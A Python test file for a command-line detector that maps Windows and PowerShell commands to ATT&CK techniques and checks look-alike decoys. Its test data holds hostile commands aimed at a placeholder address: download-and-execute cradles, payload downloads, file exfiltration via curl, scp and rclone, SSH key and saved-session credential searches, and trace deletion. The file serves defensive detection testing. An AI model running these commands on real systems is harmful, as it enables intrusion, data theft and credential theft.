"""What commands show, each beside a decoy that looks like it."""

from __future__ import annotations

import base64
import re

import pytest

from graphcorr.syntax.behavior_rules import SCRIPT_MARKS, SCRIPTED, Rule
from graphcorr.syntax.behaviors import LONGEST, LONGEST_SCRIPT, shown_by, shown_by_script
from graphcorr.syntax.file_commands import FILERS


def _told(image: str, line: str) -> list[tuple[str, str | None]]:
    return [(one.technique, one.object) for one in shown_by(rf"C:\Windows\System32\{image}", line)]


def _encoded(code: str) -> str:
    return base64.b64encode(code.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("image", "line", "technique"),
    [
        ("systeminfo.exe", "systeminfo", "T1082"),
        ("hostname.exe", "hostname", "T1082"),
        ("cmd.exe", "cmd.exe /Q /c ver", "T1082"),
        ("wmic.exe", "wmic os get caption", "T1082"),
        ("wmic.exe", "wmic /node:ws2 computersystem list brief", "T1082"),
        ("msinfo32.exe", r"msinfo32 /report c:\t\a.txt", "T1082"),
        ("reg.exe", r'reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion"', "T1082"),
        ("powershell.exe", "powershell Get-WmiObject Win32_OperatingSystem", "T1082"),
        ("sc.exe", "sc query type= service", "T1007"),
        ("sc.exe", r"sc \\ws2 queryex", "T1007"),
        ("net.exe", "net start", "T1007"),
        ("net1.exe", r"C:\Windows\system32\net1 start", "T1007"),
        ("tasklist.exe", "tasklist /svc", "T1007"),
        ("wmic.exe", "wmic service list brief", "T1007"),
        ("powershell.exe", "powershell -c Get-Service", "T1007"),
        ("tasklist.exe", "tasklist /v", "T1057"),
        ("ipconfig.exe", "ipconfig /all", "T1016"),
        ("whoami.exe", "whoami", "T1033"),
        ("whoami.exe", "whoami /groups", "T1069.001"),
        ("quser.exe", "quser", "T1033"),
        ("netstat.exe", "netstat -ano", "T1049"),
        ("net.exe", "net view", "T1018"),
        ("net.exe", r"net view \\ws2", "T1135"),
        ("net.exe", 'net group "domain computers" /domain', "T1018"),
        ("net.exe", 'net group "domain admins" /domain', "T1069.002"),
        ("net.exe", "net localgroup administrators", "T1069.001"),
        ("net.exe", "net user /domain", "T1087.002"),
        ("net.exe", "net user", "T1087.001"),
        ("nltest.exe", "nltest /domain_trusts", "T1482"),
        ("nltest.exe", "nltest /dclist:corp", "T1018"),
        ("cmd.exe", r"cmd /c del /q C:\Windows\Temp\tool.exe", "T1070.004"),
        ("cmd.exe", r'cmd.exe /c "erase c:\t\a.exe"', "T1070.004"),
        ("cmd.exe", r"cmd /c ping -n 3 127.0.0.1 >nul & rd /s /q c:\t", "T1070.004"),
        ("cmd.exe", r"cmd /c if exist c:\t\a.exe del c:\t\a.exe", "T1070.004"),
        ("sdelete.exe", r"sdelete -p 3 c:\t\a.exe", "T1070.004"),
        ("reg.exe", r"reg query HKCU\Software\SimonTatham\PuTTY\Sessions", "T1552.004"),
        ("findstr.exe", r"findstr /si password *.ppk", "T1552.004"),
        ("cmd.exe", r"cmd /c dir /s /b c:\users\*id_rsa*", "T1552.004"),
        ("powershell.exe", r"powershell gci -recurse c:\users -include *.pem", "T1552.004"),
        ("powershell.exe", "powershell -noP -sta -w 1 -enc " + _encoded("exit"), "T1059.001"),
        ("powershell.exe", r"powershell (gi c:\t\a.exe).LastWriteTime = '01/01/2010'", "T1070.006"),
        ("powershell.exe", "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')", "T1105"),
        ("powershell.exe", "powershell -e " + _encoded("iwr http://203.0.113.7/a | iex"), "T1105"),
    ],
)
def test_a_command_shows_a_technique(image: str, line: str, technique: str) -> None:
    assert technique in {one for one, _ in _told(image, line)}


@pytest.mark.parametrize(
    ("image", "line"),
    [
        ("net.exe", "net start spooler"),
        ("net.exe", "net user alice Secret1 /add"),
        ("net.exe", "net localgroup administrators alice /add"),
        ("net.exe", r"net use z: \\fs1\data"),
        ("sc.exe", "sc start spooler"),
        ("sc.exe", "sc create query binPath= c:\\a.exe"),
        ("wmic.exe", "wmic service call create name=x"),
        ("wmic.exe", "wmic process call create calc.exe"),
        ("ipconfig.exe", "ipconfig /flushdns"),
        ("cmd.exe", "cmd /c echo del c:\\t\\a.exe"),
        ("cmd.exe", "cmd /c deltree.exe c:\\t"),
        ("cmd.exe", "cmd /c verify on"),
        ("cmd.exe", "cmd /c del"),
        ("cmd.exe", "cmd /c dir c:\\users"),
        ("cmd.exe", "cmd /c dir id_rsa.pub"),
        ("notepad.exe", "notepad systeminfo"),
        ("powershell.exe", "powershell Get-Service spooler | Restart-Service"),
        ("powershell.exe", "powershell if ($f.LastWriteTime -eq $t) { exit }"),
        ("powershell.exe", "powershell $f.LastWriteTime == 3"),
        ("powershell.exe", "powershell -noP -NonI -w hidden -enc " + _encoded("exit")),
        ("powershell.exe", "powershell iwr http://203.0.113.7/status"),
        ("reg.exe", r"reg add HKCU\Software\SimonTatham\PuTTY\Sessions /v a"),
        ("7z.exe", r"7z x c:\t\a.7z"),
        ("rar.exe", r"rar x c:\t\a.rar"),
        ("tar.exe", "tar -xf a.tar"),
        ("certutil.exe", "certutil -verify a.cer"),
        ("curl.exe", "curl https://example.com/"),
        ("bitsadmin.exe", "bitsadmin /list"),
        ("curl.exe", "curl https://cdn.example/bootstrap-datepicker@1.9.0/dist/x.js"),
        ("curl.exe", "curl -d user=joe@corp.example https://example.com/"),
        ("scp.exe", r"scp C:\a D:\b"),
        ("scp.exe", r"scp web.example:/tmp/a C:\a"),
        ("rclone.exe", r"rclone copy C:\a D:\b"),
        ("rclone.exe", r"rclone copy remote:x C:\d"),
        ("tar.exe", r"tar -C C:\download -xf x.tar"),
    ],
)
def test_what_looks_like_it_shows_nothing(image: str, line: str) -> None:
    assert _told(image, line) == []


@pytest.mark.parametrize(
    ("image", "line", "technique", "path"),
    [
        ("7z.exe", r"7z a -mx9 C:\t\out.7z C:\docs", "T1560.001", r"C:\t\out.7z"),
        ("7za.exe", r'7za a -pSecret "C:\t\my out.7z" C:\docs', "T1560.001", r"C:\t\my out.7z"),
        ("rar.exe", r"rar a -r -hpSecret c:\t\out.rar c:\docs", "T1560.001", r"c:\t\out.rar"),
        ("makecab.exe", r"makecab c:\t\a.dmp c:\t\a.cab", "T1560.001", r"c:\t\a.cab"),
        ("makecab.exe", r"makecab /D CompressionType=LZX c:\t\a.dmp c:\t\a.cab", "T1560.001", r"c:\t\a.cab"),
        ("zip.exe", r"zip -r c:\t\a.zip c:\docs", "T1560.001", r"c:\t\a.zip"),
        ("tar.exe", r"tar -czf c:\t\a.tgz c:\docs", "T1560.001", r"c:\t\a.tgz"),
        ("powershell.exe", r"powershell Compress-Archive -Path c:\docs -DestinationPath c:\t\a.zip", "T1560.001", r"c:\t\a.zip"),
        ("certutil.exe", r"certutil -urlcache -split -f http://203.0.113.7/a.exe c:\t\a.exe", "T1105", r"c:\t\a.exe"),
        ("bitsadmin.exe", r"bitsadmin /transfer j /priority high http://203.0.113.7/a c:\t\a.exe", "T1105", r"c:\t\a.exe"),
        ("curl.exe", r"curl -s -o c:\t\a.exe http://203.0.113.7/a", "T1105", r"c:\t\a.exe"),
        ("curl.exe", r"curl http://203.0.113.7/a --output c:\t\a.exe", "T1105", r"c:\t\a.exe"),
        ("curl.exe", "curl -O http://203.0.113.7/dir/a.exe", "T1105", "a.exe"),
        ("powershell.exe", r"powershell iwr http://203.0.113.7/a -OutFile c:\t\a.exe", "T1105", r"c:\t\a.exe"),
        (
            "powershell.exe",
            r"powershell (New-Object Net.WebClient).DownloadFile('http://203.0.113.7/a','c:\t\a.exe')",
            "T1105",
            r"c:\t\a.exe",
        ),
        ("7z.exe", r'7z a -p"my secret" -w"C:\Temp Dir" c:\t\loot.7z c:\d', "T1560.001", r"c:\t\loot.7z"),
        ("zip.exe", r"zip -P pw out.zip c:\d", "T1560.001", "out.zip"),
        ("tar.exe", r"tar --exclude x -cf a.tar c:\d", "T1560.001", "a.tar"),
        ("tar.exe", r"tar czf a.tgz c:\d", "T1560.001", "a.tgz"),
        ("certutil.exe", "certutil -urlcache -split -f http://203.0.113.7/d/a.exe", "T1105", "a.exe"),
        ("curl.exe", r"curl --output-dir C:\t -O http://203.0.113.7/a.exe", "T1105", "a.exe"),
        ("curl.exe", r"curl -fsSLo c:\t\a.exe http://203.0.113.7/a", "T1105", r"c:\t\a.exe"),
        ("wget.exe", "wget -q http://203.0.113.7/d/a.exe?x=1", "T1105", "a.exe"),
        ("curl.exe", "curl -d @c:\\t\\a.txt https://203.0.113.7/", "T1048", "c:\\t\\a.txt"),
        ("scp.exe", r"scp -i key -P 22 c:\t\a.7z joe@web.example:/tmp", "T1048.002", r"c:\t\a.7z"),
        ("curl.exe", r"curl -T c:\t\out.7z ftp://203.0.113.7/", "T1048", r"c:\t\out.7z"),
        ("curl.exe", r"curl -F file=@c:\t\out.7z https://203.0.113.7/up", "T1048", r"c:\t\out.7z"),
        ("rclone.exe", r"rclone copy c:\t\out.7z mega:x", "T1567.002", r"c:\t\out.7z"),
        (
            "powershell.exe",
            r"powershell (New-Object Net.WebClient).UploadFile('https://203.0.113.7/','c:\t\out.7z')",
            "T1048",
            r"c:\t\out.7z",
        ),
    ],
)
def test_the_file_that_a_command_is_about_is_told(image: str, line: str, technique: str, path: str) -> None:
    assert (technique, path) in _told(image, line)


def test_a_password_is_told_by_the_way() -> None:
    ways = {one.way for one in shown_by("rar.exe", "rar a -hpX out.rar docs")}
    assert ways == {"made an archive with a password"}
    assert {one.way for one in shown_by("rar.exe", "rar a out.rar docs")} == {"made an archive"}


def test_a_renamed_program_is_told_by_its_makers_name() -> None:
    line = r"c:\t\r.exe a -hpX out.rar docs"
    assert shown_by(r"c:\t\r.exe", line) == ()
    assert [one.object for one in shown_by(r"c:\t\r.exe", line, "WinRAR.exe")] == ["out.rar"]
    # What is told by its own name is not asked for another.
    assert shown_by(r"c:\t\sc.exe", "sc start x", "systeminfo.exe") == ()


SCRIPTS = [
    "Get-ComputerInfo", "Get-CimInstance Win32_BIOS", "[Environment]::OSVersion", "Get-Service", "gwmi Win32_Service", "Get-NetAdapter",
    "gwmi Win32_NetworkAdapterConfiguration", "Get-NetTCPConnection", "Get-ADComputer -Filter *", "Get-DomainComputer", "Get-ADTrust",
    "Get-Forest", "Get-ADUser", "Get-NetUser", "Get-LocalUser", "Get-ADGroup", "Get-NetGroup", "Get-LocalGroupMember",
    "Compress-Archive -Path a -DestinationPath b.zip", "[IO.Compression.ZipFile]::CreateFromDirectory('a', 'b.zip')",
    "$f.CreationTime = 1", "$f.LastWriteTimeUtc=1", "$c.DownloadFile('http://203.0.113.7/a','b')", "iwr http://a -OutFile b",
    "Invoke-WebRequest http://a -OutFile b", "irm http://a -OutFile b", "wget http://a -out b", "curl http://a -OutFile b",
    "Start-BitsTransfer http://a -Destination b", "iex (iwr http://a)", "$c.DownloadString('http://a') | iex",
    "Invoke-RestMethod http://a | iex", "$c.UploadFile('http://a','b')", "iwr http://a -InFile b", "Invoke-SessionGopher",
    r"gci HKCU:\Software\SimonTatham\PuTTY", r"gp 'HKCU:\Software\Martin Prikryl\WinSCP 2\Sessions'", r"ls ~\.ssh\known_hosts",
    r"gci 'HKCU:\Software\Microsoft\Terminal Server Client\Servers'", "gci -r -include *.ppk", "ls id_rsa", "dir *.pem",
]  # fmt: skip


def test_a_command_line_may_leave_its_program_out() -> None:
    assert [one.technique for one in shown_by(r"c:\w\tasklist.exe", "/svc")] == ["T1007"]


def test_a_script_is_looked_at_with_the_commands_encoded_in_it() -> None:
    told = shown_by_script("Invoke-SessionGopher -Thorough; powershell -enc " + _encoded("Get-ComputerInfo"))
    assert {one.technique for one in told} == {"T1552.004", "T1082"}
    assert shown_by_script(None) == ()


POWERVIEW = """function Get-NetUser { param($Name) if ($Name) { Get-ADUser $Name } }
filter Get-NetComputer { Get-ADComputer -Filter * }
"""


PROXY = """#requires -version 3.0

try { Microsoft.PowerShell.Core\\Set-StrictMode -Off } catch { }

$script:MyModule = $MyInvocation.MyCommand.ScriptBlock.Module
Get-NetAdapter
"""


def test_no_word_hides_a_script() -> None:
    assert shown_by_script(PROXY) == ()
    asked = {"T1087.002"}
    assert {one.technique for one in shown_by_script("<# ConvertFrom-StringData @ #> Get-ADUser x")} == asked
    assert {one.technique for one in shown_by_script("<# $script:MyModule = $MyInvocation #>\nGet-ADUser x")} == asked
    assert {one.technique for one in shown_by_script("FunctionsToExport; Get-ADUser x")} == asked
    assert shown_by_script("data m { ConvertFrom-StringData @'\nA = Get-ADUser\n'@ }") == ()


def test_what_a_module_can_do_is_not_done() -> None:
    assert shown_by_script(POWERVIEW) == ()
    assert [one.technique for one in shown_by_script(POWERVIEW + "Get-NetUser")] == ["T1087.002"]
    # A part of a long one ends where the log cuts it.
    assert shown_by_script("function Get-NetUser { if (1) { Get-ADUser x }") == ()
    assert [one.technique for one in shown_by_script("function Invoke-SessionGopher { gci x }")] == ["T1552.004"]


@pytest.mark.parametrize(
    ("command", "parameter", "techniques"),
    [
        ("Get-WmiObject", ("Class", "Win32_OperatingSystem"), ["T1082"]),
        ("Get-NetAdapter", ("IncludeHidden", "True"), ["T1016"]),
        ("New-Alias", ("Value", "Get-NetAdapter"), []),
        ("Write-Verbose", ("Message", "calls Get-ADUser"), []),
        ("New-Object", ("ArgumentList", "Get-NetUser, …"), []),
        ("Select-Object", ("InputObject", "Get-ADUser"), []),
        ("Export-ModuleMember", ("Function", "Get-NetAdapter"), []),
    ],
)
def test_what_powershell_logs_of_a_pipeline(command: str, parameter: tuple[str, str], techniques: list[str]) -> None:
    name, value = parameter
    text = f'CommandInvocation({command}): "{command}"\nParameterBinding({command}): name="{name}"; value="{value}"'
    assert [one.technique for one in shown_by_script(text)] == techniques


@pytest.mark.parametrize("rule", SCRIPTED, ids=lambda rule: rule.pattern.pattern[:40])
def test_every_rule_of_scripts_has_a_mark(rule: Rule) -> None:
    """What an engine looks for first is in whatever the rule holds for: each alternative of its start, written out."""
    told = [text for text in SCRIPTS if rule.pattern.search(text)]
    assert told
    assert all(re.search(SCRIPT_MARKS, text.lower()) for text in told)


def test_an_encoded_command_has_a_mark() -> None:
    assert re.search(SCRIPT_MARKS, ("powershell -enc " + _encoded("Get-ComputerInfo")).lower())


def test_no_more_than_a_bounded_text_is_looked_at() -> None:
    assert shown_by_script(" " * LONGEST_SCRIPT + "Get-ComputerInfo") == ()
    assert shown_by("sc.exe", "sc " + " " * LONGEST + "query") == ()
    assert LONGEST == 8_191  # what cmd.exe takes


@pytest.mark.parametrize(
    "line",
    [
        "certutil " + "-urlcache" * 400 + "http://" * 600,
        "bitsadmin " + "/addfile," * 300 + "http://x," * 300 + "," * 2500,
        "tar " + "c" * 4000 + "," * 4000,
        "pscp c:\\a " + "@" * 8100,
        "curl " + "-d" * 4000,
    ],
)
def test_files_are_read_word_by_word(line: str) -> None:
    """Each word is looked at once: these lines took regular expressions seconds."""
    words = line.split()
    read = FILERS[words[0]]
    assert len(list(read(words[1:]))) <= 1
